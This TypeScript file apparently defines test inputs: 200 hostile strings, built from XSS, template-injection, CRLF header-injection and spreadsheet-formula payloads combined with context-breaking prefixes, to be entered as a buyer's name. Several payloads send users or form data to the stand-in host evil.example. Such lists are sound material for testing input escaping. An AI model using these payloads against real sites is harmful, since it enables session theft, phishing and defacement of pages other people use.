const CORES = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<a href='javascript:alert(1)'>x</a>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<style>*{display:none}</style>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<form action=//evil.example><input name=key>",
  "<button hx-post=/sign-out>x</button>",
  "<div hx-get=//evil.example hx-trigger=load>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<!--><script>alert(1)</script-->",
  "{{constructor.constructor('alert(1)')()}}",
  "#{alert(1)}",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<textarea></textarea><script>alert(1)</script>",
  "<title></title><script>alert(1)</script>",
  "]]><script>alert(1)</script>",
  "\u202e<script>alert(1)</script>",
  "<scr\u0000ipt>alert(1)</script>",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  '=HYPERLINK("http://evil.example")',
  "x\r\nSet-Cookie: s=stolen",
];

/** How a text gets out of where it was put: as it is, or by closing what stands around it. */
const BREAKS = ["", '"', "'", '">', "'>", "-->", "</td>", "</script>"] as const;

/** 200 texts that a buyer may call himself by, each another way out of a page. */
export const HOSTILE_TEXTS: readonly string[] = CORES.flatMap((core) => BREAKS.map((way) => `${way}${core}`));
